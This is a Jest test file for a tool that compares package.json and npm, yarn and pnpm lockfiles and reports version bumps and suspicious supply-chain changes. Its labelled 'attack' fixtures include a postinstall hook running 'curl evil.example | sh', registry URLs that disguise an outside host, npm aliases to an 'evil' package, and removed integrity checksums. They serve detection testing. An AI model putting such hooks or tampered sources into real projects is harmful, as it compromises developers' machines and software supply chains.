import { describe, expect, test } from "@jest/globals";
import { toldOf } from "../told.ts";

type Case = [name: string, before: string, after: string, told: string[]];

const manifest = (fields: object) => JSON.stringify({ name: "shop", version: "1.0.0", ...fields }, null, 2);
const using = (dependencies: Record<string, string>, more: object = {}) => manifest({ dependencies, ...more });

describe("package.json", () => {
  test.each<Case>([
    ["a range moves by a patch", using({ a: "^1.0.0" }), using({ a: "^1.0.1" }), ["a ^1.0.0 > ^1.0.1 patch direct"]],
    ["a range moves by a minor", using({ a: "~1.0.0" }), using({ a: "~1.1.0" }), ["a ~1.0.0 > ~1.1.0 minor direct"]],
    ["a range moves by a major", using({ a: "1.0.0" }), using({ a: "2.0.0" }), ["a 1.0.0 > 2.0.0 major direct"]],
    ["a version goes back", using({ a: "1.0.1" }), using({ a: "1.0.0" }), ["a 1.0.1 > 1.0.0 patch downgrade direct"]],
    ["0.1 to 0.2 is a minor step", using({ a: "^0.1.0" }), using({ a: "^0.2.0" }), ["a ^0.1.0 > ^0.2.0 minor direct"]],
    ["a pre-release", using({ a: "1.0.0" }), using({ a: "1.1.0-rc.1" }), ["a 1.0.0 > 1.1.0-rc.1 prerelease direct"]],
    [
      "a pre-release becomes its release, as large as what it releases",
      using({ a: "2.0.0-rc.1" }),
      using({ a: "2.0.0" }),
      ["a 2.0.0-rc.1 > 2.0.0 major direct"],
    ],
    [
      "another kind of range cannot be compared",
      using({ a: "^1.0.0" }),
      using({ a: ">=1.0.0" }),
      ["a ^1.0.0 > >=1.0.0 unknown direct"],
    ],
    ["a star cannot be compared", using({ a: "1.0.0" }), using({ a: "*" }), ["a 1.0.0 > * unknown direct"]],
    ["one is added", using({}), using({ a: "1.0.0" }), ["a none > 1.0.0 added direct"]],
    ["one is removed", using({ a: "1.0.0" }), using({}), ["a 1.0.0 > none removed direct"]],
    [
      "one moves to the other section",
      manifest({ devDependencies: { a: "1.0.0" } }),
      using({ a: "1.0.0" }),
      ["a 1.0.0 > none removed direct dev", "a none > 1.0.0 added direct"],
    ],
    [
      "attack: a bump that brings a script",
      using({ a: "1.0.0" }, { scripts: { test: "jest" } }),
      using({ a: "1.0.1" }, { scripts: { test: "jest", postinstall: "curl evil.example | sh" } }),
      ["a 1.0.0 > 1.0.1 patch direct", "other: adds scripts.postinstall"],
    ],
    [
      "attack: a bump that changes a script",
      using({ a: "1.0.0" }, { scripts: { test: "jest" } }),
      using({ a: "1.0.1" }, { scripts: { test: "true" } }),
      ["a 1.0.0 > 1.0.1 patch direct", "other: changes scripts.test"],
    ],
    [
      "attack: an override",
      using({ a: "1.0.0" }),
      using({ a: "1.0.0" }, { overrides: { b: "npm:evil@1.0.0" } }),
      ["other: adds overrides.b"],
    ],
    [
      "attack: the same name from git",
      using({ a: "1.0.0" }),
      using({ a: "git+https://github.com/evil/a.git#v1.0.1" }),
      [
        "a 1.0.0 > v1.0.1 replaced direct",
        "other: a v1.0.1 comes from git+https://github.com/evil/a.git#v1.0.1, not from the registry",
        "other: a v1.0.1 comes from git+https://github.com/evil/a.git, not from the default registry",
      ],
    ],
    [
      "attack: the same name as an alias",
      using({ a: "1.0.0" }),
      using({ a: "npm:evil@1.0.1" }),
      [
        "a 1.0.0 > 1.0.1 replaced direct",
        "other: a 1.0.1 is an alias for evil",
        "other: a 1.0.1 comes from npm:evil, not from the default registry",
      ],
    ],
    [
      "a file, a folder and GitHub's short form are told",
      using({}),
      using({ a: "file:../a.tgz", b: "github:evil/b", c: "evil/c" }),
      [
        "a none > none added direct",
        "b none > none added direct",
        "c none > none added direct",
        "other: a comes from file:../a.tgz, not from the registry",
        "other: b comes from github:evil/b, not from the registry",
        "other: c comes from evil/c, not from the registry",
      ],
    ],
    [
      "a package called constructor",
      using({ constructor: "1.0.0" }),
      using({ constructor: "1.0.1" }),
      ["constructor 1.0.0 > 1.0.1 patch direct"],
    ],
    ["text that is no JSON", using({}), "{", ["unknown: package.json cannot be read: it is not valid JSON"]],
    ["a list", using({}), "[]", ["unknown: package.json cannot be read: it is not a table of keys and values"]],
    [
      "only its order and white space change",
      using({ a: "1", b: "2" }),
      JSON.stringify(JSON.parse(using({ b: "2", a: "1" }))),
      [],
    ],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("package.json", before, after)).toEqual(expected);
  });
});

interface Locked {
  version: string;
  resolved?: string;
  integrity?: string | null;
  [key: string]: unknown;
}

const url = (name: string, version: string) =>
  `https://registry.npmjs.org/${name}/-/${name.slice(name.indexOf("/") + 1)}-${version}.tgz`;

const entry = (name: string, { integrity, ...rest }: Locked) => ({
  resolved: url(name, rest.version),
  ...(integrity === null ? {} : { integrity: integrity ?? `sha512-${name}-${rest.version}` }),
  ...rest,
});

/** lockfileVersion 3; the root project uses `a` and, for development, `d`. */
function lock(packages: Record<string, Locked>, root: object = {}): string {
  const entries = Object.entries(packages).map(([path, locked]) => {
    const name = path.split("/node_modules/").at(-1) ?? path;
    return [`node_modules/${path}`, entry(name, locked)];
  });
  return JSON.stringify({
    name: "shop",
    lockfileVersion: 3,
    packages: {
      "": { name: "shop", dependencies: { a: "*" }, devDependencies: { d: "*" }, ...root },
      ...Object.fromEntries(entries),
    },
  });
}

const both = (a: string, b: string): [string, string] => [lock({ a: { version: a } }), lock({ a: { version: b } })];

describe("package-lock.json, versions 2 and 3", () => {
  test.each<Case>([
    ["a direct dependency", ...both("1.0.0", "1.0.1"), ["a 1.0.0 > 1.0.1 patch direct"]],
    [
      "a development dependency",
      lock({ d: { version: "1.0.0", dev: true } }),
      lock({ d: { version: "2.0.0", dev: true } }),
      ["d 1.0.0 > 2.0.0 major direct dev"],
    ],
    [
      "an indirect dependency",
      lock({ x: { version: "1.0.0" } }),
      lock({ x: { version: "1.1.0" } }),
      ["x 1.0.0 > 1.1.0 minor indirect"],
    ],
    ["a downgrade", ...both("1.1.0", "1.0.9"), ["a 1.1.0 > 1.0.9 minor downgrade direct"]],
    [
      "one of two versions of one package",
      lock({ x: { version: "2.0.0" }, "a/node_modules/x": { version: "1.0.0" } }),
      lock({ x: { version: "2.0.0" }, "a/node_modules/x": { version: "1.0.1" } }),
      ["x 1.0.0 > 1.0.1 patch indirect"],
    ],
    [
      "both of two versions of one package",
      lock({ x: { version: "2.0.0" }, "b/node_modules/x": { version: "1.0.0" } }),
      lock({ x: { version: "2.1.0" }, "b/node_modules/x": { version: "1.0.1" } }),
      ["x 1.0.0 > 1.0.1 patch indirect", "x 2.0.0 > 2.1.0 minor indirect"],
    ],
    [
      "versions that move between folders are the same set",
      lock({ x: { version: "2.0.0" }, "b/node_modules/x": { version: "1.0.0" } }),
      lock({ x: { version: "1.0.0" }, "c/node_modules/x": { version: "2.0.0" } }),
      [],
    ],
    [
      "attack: a direct dependency changes places with an older copy",
      lock({ a: { version: "2.0.0" }, "b/node_modules/a": { version: "1.0.0" } }),
      lock({ a: { version: "1.0.0" }, "b/node_modules/a": { version: "2.0.0" } }),
      ["a 2.0.0 > 1.0.0 major downgrade direct", "a 1.0.0 > 2.0.0 major indirect"],
    ],
    [
      "a second version beside the first is added",
      lock({ x: { version: "1.0.0" } }),
      lock({ x: { version: "1.0.1" }, "b/node_modules/x": { version: "2.0.0" } }),
      ["x 1.0.0 > 1.0.1 patch indirect", "x none > 2.0.0 added indirect"],
    ],
    [
      "attack: the tarball of another package",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.1", resolved: url("evil", "1.0.1") } }),
      [
        "a 1.0.0 > 1.0.1 patch direct",
        "other: a 1.0.1 is fetched from https://registry.npmjs.org/evil/-/evil-1.0.1.tgz, which is another package",
      ],
    ],
    [
      "attack: the registry's name as the user of another host",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.1", resolved: "https://registry.npmjs.org@evil.example/a/-/a-1.0.1.tgz" } }),
      [
        "a 1.0.0 > 1.0.1 replaced direct",
        "other: a 1.0.1 comes from https://registry.npmjs.org@evil.example",
        "other: a 1.0.1 comes from https://registry.npmjs.org@evil.example, not from https://registry.npmjs.org",
      ],
    ],
    [
      "attack: another host for the same version",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.0", resolved: "https://evil.example/a/-/a-1.0.0.tgz" } }),
      [
        "a 1.0.0 > 1.0.0 replaced direct",
        "other: a 1.0.0 comes from https://evil.example",
        "other: a 1.0.0 comes from https://evil.example, not from https://registry.npmjs.org",
      ],
    ],
    [
      "attack: another checksum for the same version",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.0", integrity: "sha512-evil" } }),
      ["other: a 1.0.0 has another integrity, though its version is the same"],
    ],
    [
      "attack: no checksum",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.1", integrity: null } }),
      ["a 1.0.0 > 1.0.1 patch direct", "other: a 1.0.1 has no integrity"],
    ],
    [
      "attack: a version that runs a script where the last one did not",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.1", hasInstallScript: true } }),
      ["a 1.0.0 > 1.0.1 patch direct", "other: a 1.0.1 runs a script when it is installed"],
    ],
    [
      "a script that it ran before is not news",
      lock({ a: { version: "1.0.0", hasInstallScript: true } }),
      lock({ a: { version: "1.0.1", hasInstallScript: true } }),
      ["a 1.0.0 > 1.0.1 patch direct"],
    ],
    [
      "attack: other dependencies for the same version",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.0", dependencies: { evil: "1" } } }),
      ["other: a 1.0.0 has other dependencies, though its version is the same"],
    ],
    [
      "attack: a git address under a name of the registry",
      lock({ a: { version: "1.0.0" } }),
      lock({ a: { version: "1.0.1", resolved: "git+ssh://git@github.com/evil/a.git#0123456", integrity: null } }),
      [
        "a 1.0.0 > 1.0.1 replaced direct",
        "other: a 1.0.1 comes from git+ssh://git@github.com/evil/a.git#0123456, not from a registry",
        "other: a 1.0.1 has no integrity",
        "other: a 1.0.1 comes from git+ssh://git@github.com/evil/a.git, not from https://registry.npmjs.org",
      ],
    ],
    [
      "the root project's bins change",
      lock({}),
      lock({}, { bin: { shop: "evil.js" } }),
      ["other: adds the root project: bin.shop"],
    ],
    [
      "a scoped package",
      lock({ "@s/x": { version: "1.0.0" } }),
      lock({ "@s/x": { version: "1.0.1" } }),
      ["@s/x 1.0.0 > 1.0.1 patch indirect"],
    ],
    [
      "neither packages nor dependencies",
      lock({}),
      "{}",
      ["unknown: package-lock.json cannot be read: it has neither packages nor dependencies"],
    ],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("app/package-lock.json", before, after)).toEqual(expected);
  });

  test("what a workspace asks for is direct, wherever it was put", () => {
    const at = (version: string) =>
      JSON.stringify({
        lockfileVersion: 3,
        packages: {
          "": { workspaces: ["packages/*"] },
          "packages/web": { dependencies: { x: "*", y: "*" } },
          "packages/web/node_modules/x": entry("x", { version }),
          "node_modules/x": entry("x", { version: "9.0.0" }),
          "node_modules/y": entry("y", { version }),
          "node_modules/web": { resolved: "packages/web", link: true },
        },
      });
    expect(toldOf("package-lock.json", at("1.0.0"), at("1.0.1"))).toEqual([
      "x 1.0.0 > 1.0.1 patch direct",
      "y 1.0.0 > 1.0.1 patch direct",
    ]);
  });

  test("attack: version 2 with another answer for npm 6", () => {
    const at = (legacy: string) =>
      JSON.stringify({
        lockfileVersion: 2,
        packages: { "": { dependencies: { a: "*" } }, "node_modules/a": entry("a", { version: "1.0.0" }) },
        dependencies: { a: entry("a", { version: "1.0.0", integrity: legacy }) },
      });
    expect(toldOf("package-lock.json", at("sha512-a-1.0.0"), at("sha512-evil"))).toEqual([
      "other: adds a 1.0.0, for npm 6 alone",
    ]);
  });
});

describe("package-lock.json, version 1", () => {
  const v1 = (dependencies: object) => JSON.stringify({ name: "shop", lockfileVersion: 1, dependencies });
  test.each<Case>([
    [
      "an update",
      v1({ a: entry("a", { version: "1.0.0" }) }),
      v1({ a: entry("a", { version: "1.0.1" }) }),
      ["a 1.0.0 > 1.0.1 patch"],
    ],
    [
      "a copy deeper in the tree",
      v1({ a: { ...entry("a", { version: "1.0.0" }), dependencies: { b: entry("b", { version: "1.0.0" }) } } }),
      v1({ a: { ...entry("a", { version: "1.0.0" }), dependencies: { b: entry("b", { version: "3.0.0" }) } } }),
      ["b 1.0.0 > 3.0.0 major"],
    ],
    ["a removal", v1({ a: entry("a", { version: "1.0.0" }) }), v1({}), ["a 1.0.0 > none removed"]],
    [
      "attack: a git address as a version",
      v1({ a: entry("a", { version: "1.0.0" }) }),
      v1({ a: { version: "git+https://github.com/evil/a.git#abc", from: "a@1" } }),
      [
        "a 1.0.0 > git+https://github.com/evil/a.git#abc replaced",
        "other: a git+https://github.com/evil/a.git#abc comes from git+https://github.com/evil/a.git#abc, not from a registry",
        "other: a git+https://github.com/evil/a.git#abc has no integrity",
        "other: a git+https://github.com/evil/a.git#abc comes from git+https://github.com/evil/a.git, not from https://registry.npmjs.org",
      ],
    ],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("npm-shrinkwrap.json", before, after)).toEqual(expected);
  });
});

const classic = (name: string, version: string, more = "", patterns = `${name}@^1.0.0`) =>
  `# yarn lockfile v1\n\n\n"${patterns.split(", ").join('", "')}":\n  version "${version}"\n  resolved "https://registry.yarnpkg.com/${name}/-/${name}-${version}.tgz#0123456789012345678901234567890123456789"\n  integrity sha512-${name}${version}==\n${more}`;

describe("yarn.lock, classic", () => {
  test.each<Case>([
    ["an update", classic("a", "1.0.0"), classic("a", "1.0.1"), ["a 1.0.0 > 1.0.1 patch"]],
    [
      "another range for the same version is nothing",
      classic("a", "1.0.0"),
      classic("a", "1.0.0", "", "a@^1.0.0, a@~1.0.0"),
      [],
    ],
    [
      "attack: other dependencies for the same version",
      classic("a", "1.0.0"),
      classic("a", "1.0.0", '  dependencies:\n    evil "^1.0.0"\n'),
      ["other: a 1.0.0 has other dependencies, though its version is the same"],
    ],
    [
      "attack: an address of another package",
      classic("a", "1.0.0"),
      classic("a", "1.0.1").replace("/a/-/a-", "/evil/-/evil-"),
      [
        "a 1.0.0 > 1.0.1 patch",
        "other: a 1.0.1 is fetched from https://registry.yarnpkg.com/evil/-/evil-1.0.1.tgz, which is another package",
      ],
    ],
    [
      "attack: an alias",
      classic("a", "1.0.0"),
      classic("evil", "1.0.1", "", "a@npm:evil@^1.0.0"),
      [
        "a 1.0.0 > 1.0.1 replaced",
        "other: a 1.0.1 is an alias for evil",
        "other: a 1.0.1 comes from evil at https://registry.yarnpkg.com, not from https://registry.yarnpkg.com",
      ],
    ],
    [
      "not a lockfile",
      classic("a", "1.0.0"),
      "<<<<<<< HEAD\n",
      ["unknown: yarn.lock cannot be read: it is not a yarn lockfile"],
    ],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("yarn.lock", before, after)).toEqual(expected);
  });
});

const berry = (a: string, more = "") => `# generated
__metadata:
  version: 8
  cacheKey: 10c0

"a@npm:^1.0.0, a@npm:^1.0.1":
  version: ${a}
  resolution: "a@npm:${a}"
  checksum: 10c0/${a}
  languageName: node
  linkType: hard

"shop@workspace:.":
  version: 0.0.0-use.local
  resolution: "shop@workspace:."
  dependencies:
    a: "npm:^1.0.0"
  languageName: unknown
  linkType: soft
${more}`;
const extra = (version: string) => `
"x@npm:^1.0.0":
  version: ${version}
  resolution: "x@npm:${version}"
  checksum: 10c0/x${version}
  languageName: node
  linkType: hard
`;

describe("yarn.lock, since version 2", () => {
  test.each<Case>([
    ["what a workspace asks for is direct", berry("1.0.0"), berry("1.0.1"), ["a 1.0.0 > 1.0.1 patch direct"]],
    [
      "all else is indirect",
      berry("1.0.0", extra("1.0.0")),
      berry("1.0.0", extra("1.1.0")),
      ["x 1.0.0 > 1.1.0 minor indirect"],
    ],
    [
      "attack: another package behind the name",
      berry("1.0.0"),
      berry("1.0.1").replace('resolution: "a@npm', 'resolution: "evil@npm'),
      [
        "a 1.0.0 > 1.0.1 replaced direct",
        "other: a 1.0.1 is an alias for evil",
        "other: a 1.0.1 comes from evil at npm:, not from a at npm:",
      ],
    ],
    [
      "attack: no checksum",
      berry("1.0.0"),
      berry("1.0.1").replace("  checksum: 10c0/1.0.1\n", ""),
      ["a 1.0.0 > 1.0.1 patch direct", "other: a 1.0.1 has no checksum"],
    ],
    [
      "another cache key",
      berry("1.0.0"),
      berry("1.0.0").replace("cacheKey: 10c0", "cacheKey: 11"),
      ["other: changes __metadata.cacheKey"],
    ],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("yarn.lock", before, after)).toEqual(expected);
  });
});

const pnpm9 = (a: string, more = "") => `lockfileVersion: '9.0'
settings:
  autoInstallPeers: true
importers:
  .:
    dependencies:
      a:
        specifier: ^1.0.0
        version: ${a}(react@18.0.0)
packages:
  a@${a}:
    resolution: {integrity: sha512-${a}}
${more}snapshots:
  a@${a}(react@18.0.0): {}
`;

describe("pnpm-lock.yaml", () => {
  test.each<Case>([
    ["version 9: direct", pnpm9("1.0.0"), pnpm9("1.0.1"), ["a 1.0.0 > 1.0.1 patch direct"]],
    [
      "version 9: indirect",
      pnpm9("1.0.0", "  '@s/x@1.0.0':\n    resolution: {integrity: sha512-x}\n"),
      pnpm9("1.0.0", "  '@s/x@2.0.0':\n    resolution: {integrity: sha512-y}\n"),
      ["@s/x 1.0.0 > 2.0.0 major indirect"],
    ],
    [
      "attack: an override",
      pnpm9("1.0.0"),
      `overrides:\n  b: npm:evil@1\n${pnpm9("1.0.0")}`,
      ["other: adds overrides.b"],
    ],
    [
      "attack: a tarball of another host",
      pnpm9("1.0.0"),
      pnpm9("1.0.1").replace("sha512-1.0.1", "sha512-x, tarball: https://evil.example/a.tgz"),
      [
        "a 1.0.0 > 1.0.1 replaced direct",
        "other: a 1.0.1 comes from https://evil.example",
        "other: a 1.0.1 comes from https://evil.example, not from the default registry",
      ],
    ],
    [
      "version 6",
      "lockfileVersion: '6.0'\ndependencies:\n  a:\n    specifier: ^1\n    version: 1.0.0\npackages:\n  /a@1.0.0:\n    resolution: {integrity: x}\n",
      "lockfileVersion: '6.0'\ndependencies:\n  a:\n    specifier: ^1\n    version: 1.2.0\npackages:\n  /a@1.2.0:\n    resolution: {integrity: y}\n    requiresBuild: true\n",
      ["a 1.0.0 > 1.2.0 minor direct", "other: a 1.2.0 runs a script when it is installed"],
    ],
    [
      "version 5",
      "lockfileVersion: 5.4\nspecifiers:\n  a: ^1\ndependencies:\n  a: 1.0.0\npackages:\n  /a/1.0.0:\n    resolution: {integrity: x}\n",
      "lockfileVersion: 5.4\nspecifiers:\n  a: ^1\ndependencies:\n  a: 1.0.1\npackages:\n  /a/1.0.1:\n    resolution: {integrity: y}\n",
      ["a 1.0.0 > 1.0.1 patch direct"],
    ],
    [
      "attack: an alias in place of a direct dependency",
      pnpm9("1.0.0"),
      pnpm9("1.0.0")
        .replace("version: 1.0.0(react@18.0.0)", "version: evil@1.0.0")
        .replace(
          "  a@1.0.0:\n    resolution: {integrity: sha512-1.0.0}",
          "  evil@1.0.0:\n    resolution: {integrity: sha512-e}",
        ),
      ["a 1.0.0 > none removed direct", "evil none > 1.0.0 added indirect", "other: adds importers...a"],
    ],
    [
      "attack: other dependencies for the same version",
      pnpm9("1.0.0"),
      pnpm9("1.0.0").replace("a@1.0.0(react@18.0.0): {}", "a@1.0.0(react@18.0.0): {dependencies: {evil: 1.0.0}}"),
      ["other: a 1.0.0 has other dependencies, though its version is the same"],
    ],
    ["no version", pnpm9("1.0.0"), "a: 1", ["unknown: pnpm-lock.yaml cannot be read: it has no lockfileVersion"]],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf("pnpm-lock.yaml", before, after)).toEqual(expected);
  });
});
